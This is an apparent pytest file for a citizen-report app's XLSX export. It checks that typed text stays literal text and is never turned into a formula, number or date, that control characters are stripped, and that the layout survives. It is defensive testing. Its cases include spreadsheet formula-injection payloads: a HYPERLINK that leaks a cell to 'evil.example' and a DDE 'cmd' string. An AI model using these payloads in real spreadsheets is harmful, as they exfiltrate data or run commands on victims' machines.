"""Every XLSX cell is a string holding exactly the text (less what XML cannot hold, cut at
Excel's 32,767 characters): never a formula, a number or a date, whatever a citizen typed;
formula-like text is also marked "quote prefix". The workbook keeps its shape: the sheet
"Laporan", a bold frozen header, the column widths. Read back with openpyxl and, where it is
installed, with LibreOffice."""

import csv
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from lapor.core.cells import formula_like
from lapor.exports.columns import HEADERS
from lapor.exports.formats import COLUMN_WIDTHS, SHEET_TITLE, xlsx_chunks
from tests.exports.conftest import body_of, csv_rows, disposed, download, xlsx_rows

# (typed, what the cell holds)
CASES = [
    ('=HYPERLINK("http://evil.example/?leak="&A2,"klik")',) * 2,
    ("@SUM(1+1)*cmd|' /C calc'!A0",) * 2,
    ("\t=1+1",) * 2,
    ("+62 812-5555-2468",) * 2,
    ("081255552468",) * 2,  # a phone number, not the number 81255552468
    ("-7.79",) * 2,  # text that reads as a number stays text (and gets no quote prefix)
    ("1e5",) * 2,
    ("2026-01-05",) * 2,
    ("TRUE",) * 2,
    ("3/4",) * 2,
    ("  spasi di depan dan di belakang  ",) * 2,
    ("baris satu\r\nbaris dua\nbaris tiga",) * 2,
    ("<b>Jalan &amp; jembatan</b> \"rusak\" 'parah'",) * 2,
    ("Jalan rusak 😀 — é, “kutip”",) * 2,
    ("SMS\x00 dengan\x01 karakter\x08 kendali\x0b\x0c\x1f", "SMS dengan karakter kendali"),
    ("bukan karakter\ufffe\uffff", "bukan karakter"),
    ("x" * 40_000, "x" * 32_767),
]
LITERAL_ESCAPES = ["_x0041_", "nama_x000D_file"]  # Excel's own escape syntax, typed as text


def _workbook_bytes(rows):  # type: ignore[no-untyped-def]
    return b"".join(xlsx_chunks(rows))


def _row(values: list[str]) -> list[str]:
    return (values + [""] * len(HEADERS))[: len(HEADERS)]


def test_every_cell_comes_back_as_the_exact_text():
    rows = [_row([typed for typed, _ in CASES[i : i + 21]]) for i in range(len(CASES))]
    raw = _workbook_bytes(rows)
    sheet_xml = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(raw)).active
    for i, row in enumerate(sheet.iter_rows(min_row=2)):
        expected = [held for _, held in CASES[i : i + 21]]
        for cell, held in zip(row, expected, strict=False):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert cell.value == held, cell.coordinate
            assert cell.quotePrefix == formula_like(held), cell.coordinate


def test_the_workbook_keeps_its_title_bold_frozen_header_and_widths():
    sheet = load_workbook(io.BytesIO(_workbook_bytes([_row(["1"])]))).active
    assert sheet.title == SHEET_TITLE == "Laporan"
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == list(HEADERS)
    assert all(c.font.b for c in sheet[1]) and not sheet["A2"].font.b
    for column, width in COLUMN_WIDTHS.items():
        assert sheet.column_dimensions[column].width == width
    assert [c.value for c in sheet[2]] == ["1"] + [None] * (len(HEADERS) - 1)


def test_excel_escape_syntax_typed_as_text_is_escaped_as_excel_does():
    # Excel (and LibreOffice) read "_x0041_" in a cell as "A"; the writer escapes the
    # underscore (_x005F_), as Excel and XlsxWriter do. openpyxl shows the escape unread.
    sheet = load_workbook(io.BytesIO(_workbook_bytes([_row(LITERAL_ESCAPES)]))).active
    assert [sheet["A2"].value, sheet["B2"].value] == ["_x005F_x0041_", "nama_x005F_x000D_file"]


@pytest.mark.skipif(
    shutil.which("soffice") is None and not os.environ.get("LAPOR_REQUIRE_SOFFICE"),
    reason="LibreOffice is not installed (CI installs it and sets LAPOR_REQUIRE_SOFFICE)",
)
def test_libreoffice_reads_the_same_text(tmp_path: Path):
    typed = [t for t, _ in CASES if len(t) < 1000 and "\r" not in t] + LITERAL_ESCAPES
    held = [h for t, h in CASES if len(t) < 1000 and "\r" not in t] + LITERAL_ESCAPES
    rows = [_row(typed[i : i + 21]) for i in range(0, len(typed), 21)]
    (tmp_path / "ekspor.xlsx").write_bytes(_workbook_bytes(rows))
    # Comma-separated, UTF-8, every cell as text as shown (a formula would show its result).
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false",
         "--outdir", str(tmp_path), str(tmp_path / "ekspor.xlsx")],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    text = (tmp_path / "ekspor.csv").read_text(encoding="utf-8")
    read = [v for row in list(csv.reader(io.StringIO(text)))[1:] for v in row]
    assert read[: len(held)] == held


@pytest.mark.django_db
def test_a_report_with_control_characters_exports_through_the_view(cast, directory):
    # U+FFFE in an SMS text made the old writer fail the whole download.
    body = "Lampu mati\x07 sejak\ufffe kemarin\r\nmohon dicek"
    disposed(cast, directory, title="=1+1", body=body)
    assert csv_rows(download(cast.officer_a, "csv"))[1][7] == body  # stored as typed
    response = download(cast.officer_a, "xlsx")
    raw = body_of(response)
    (_header, row) = xlsx_rows(raw)
    assert row[6] == "=1+1"
    assert row[7] == "Lampu mati sejak kemarin\r\nmohon dicek"
    cell = load_workbook(io.BytesIO(raw)).active["G2"]
    assert cell.data_type == "s" and cell.quotePrefix
